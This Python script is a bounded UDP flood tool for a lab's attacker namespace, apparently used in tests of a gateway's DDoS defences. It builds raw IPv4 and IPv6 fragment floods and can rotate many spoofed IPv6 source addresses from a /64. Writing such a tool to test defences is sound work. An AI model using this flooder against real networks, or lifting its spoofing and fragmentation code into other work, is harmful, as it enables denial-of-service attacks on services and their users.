#!/usr/bin/env python3
"""Bounded UDP flood for the lab's attacker namespace (defence e2e tests, bench/flood.ts).

Usage: udp-flood.py <vip> <port> <seconds> <max_packets> [<pps> [<size> [<source_prefix> <sources>]]]
Sends <size>-byte datagrams (default 64) from the namespace's own address as fast as one
socket can (pps 0) or paced to <pps>, stops by itself after <seconds> or <max_packets>
datagrams, whichever first, and prints one JSON line: {"sent", "seconds", "pps", "frames"}.
Above 1472 bytes (1452 for IPv6: a fragment flood) the datagrams go out as fragments built
here on a raw socket, so what leaves the attacker does not depend on its kernel's offloads.
(The gateway's af_packet port still delivers them reassembled: docs/benchmarks.md, Flood.)
An IPv6 <vip> is flooded over IPv6. With <source_prefix> (IPv6 only, a /64 or longer, e.g.
2001:db8:18::/64) the datagrams come from <sources> distinct addresses drawn from it (never
its first 256, where the lab's hosts live), in turn, on a raw socket: one attacker holding a
whole /64. The answer then also has "sources".
Run inside the attacker namespace only.
"""
import json
import socket
import struct
import sys

import random

from flood_common import checksum, ipv6_header, ipv6_pseudo_header, is_ipv6, raw_socket, send_bounded, sources_in_prefix

MTU_PAYLOAD = 1480  # IPv4 payload per fragment at MTU 1500 (a multiple of 8)
MTU_PAYLOAD_V6 = 1448  # IPv6 fragment data at MTU 1500: 1500 - 40 - 8 (fragment header), rounded down to 8
FRAGMENT_IDS = 512  # distinct datagrams built once and sent in a loop
IPV6_FRAGMENT = 44


def fragments(src: str, dst: str, sport: int, dport: int, payload: bytes, ident: int) -> list:
    """The IPv4 fragments of one UDP datagram (UDP checksum 0 = none, allowed in IPv4)."""
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    frames = []
    for offset in range(0, len(udp), MTU_PAYLOAD):
        chunk = udp[offset:offset + MTU_PAYLOAD]
        more = 0x2000 if offset + MTU_PAYLOAD < len(udp) else 0
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(chunk), ident, more | (offset // 8), 64, socket.IPPROTO_UDP, 0,
                             socket.inet_aton(src), socket.inet_aton(dst))
        header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
        frames.append(header + chunk)
    return frames


def packets6(src: bytes, dst: bytes, sport: int, dport: int, payload: bytes, ident: int) -> list:
    """One UDP datagram over IPv6 (checksum required, RFC 8200 §8.1): one packet, or fragments
    with a fragment header when it does not fit the MTU."""
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    udp = udp[:6] + struct.pack("!H", checksum(ipv6_pseudo_header(src, dst, socket.IPPROTO_UDP, len(udp)) + udp) or 0xFFFF) + udp[8:]
    if len(udp) <= MTU_PAYLOAD_V6 + 8:
        return [ipv6_header(src, dst, socket.IPPROTO_UDP, len(udp)) + udp]
    packets = []
    for offset in range(0, len(udp), MTU_PAYLOAD_V6):
        chunk = udp[offset:offset + MTU_PAYLOAD_V6]
        more = 1 if offset + MTU_PAYLOAD_V6 < len(udp) else 0
        fragment = struct.pack("!BBHI", socket.IPPROTO_UDP, 0, offset | more, ident)
        packets.append(ipv6_header(src, dst, IPV6_FRAGMENT, len(fragment) + len(chunk)) + fragment + chunk)
    return packets


def flood6(vip: str, port: int, seconds: float, max_packets: int, pps: int, payload: bytes, prefix, source_count: int) -> None:
    dst = socket.inet_pton(socket.AF_INET6, vip)
    target = (vip, 0)
    raw = raw_socket(True)
    raw.setblocking(False)
    if prefix is None:
        # The namespace's own address and a port the kernel picks, as the IPv4 flood does.
        probe = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        probe.connect((vip, port))
        src_text, sport = probe.getsockname()[:2]
        probe.close()
        pool = [packets6(socket.inet_pton(socket.AF_INET6, src_text), dst, sport, port, payload, ident)
                for ident in range(1, FRAGMENT_IDS + 1)]
    else:
        rng = random.Random(6)
        pool = [packets6(src, dst, rng.randint(1024, 65535), port, payload, ident)
                for ident, src in enumerate(sources_in_prefix(prefix, source_count, rng), start=1)]

    def send(n: int) -> None:
        for packet in pool[n % len(pool)]:
            raw.sendto(packet, target)
    sent, elapsed = send_bounded(send, seconds, max_packets, pps)
    answer = {"sent": sent, "seconds": round(elapsed, 3), "pps": round(sent / elapsed) if elapsed else 0,
              "frames": sent * len(pool[0])}
    if prefix is not None:
        answer["sources"] = len(pool)
    print(json.dumps(answer))


def main() -> None:
    vip, port, seconds, max_packets = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
    pps = int(sys.argv[5]) if len(sys.argv) > 5 else 0
    size = int(sys.argv[6]) if len(sys.argv) > 6 else 64
    prefix = sys.argv[7] if len(sys.argv) > 7 else None
    source_count = int(sys.argv[8]) if len(sys.argv) > 8 else 256
    payload = (b"flood" * (size // 5 + 1))[:size]
    if is_ipv6(vip):
        flood6(vip, port, seconds, max_packets, pps, payload, prefix, source_count)
        return
    if prefix is not None:
        raise SystemExit("a source prefix is for IPv6 floods only")
    target = (vip, port)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    if size > MTU_PAYLOAD - 8:
        sock.connect(target)
        src, sport = sock.getsockname()
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        raw.setblocking(False)
        pool = [fragments(src, vip, sport, port, payload, ident) for ident in range(1, FRAGMENT_IDS + 1)]

        def send(n: int) -> None:
            for frame in pool[n % FRAGMENT_IDS]:
                raw.sendto(frame, target)
        per_datagram = len(pool[0])
    else:
        def send(n: int) -> None:
            sock.sendto(payload, target)
        per_datagram = 1
    sent, elapsed = send_bounded(send, seconds, max_packets, pps)
    print(json.dumps({"sent": sent, "seconds": round(elapsed, 3), "pps": round(sent / elapsed) if elapsed else 0,
                      "frames": sent * per_datagram}))


if __name__ == "__main__":
    main()
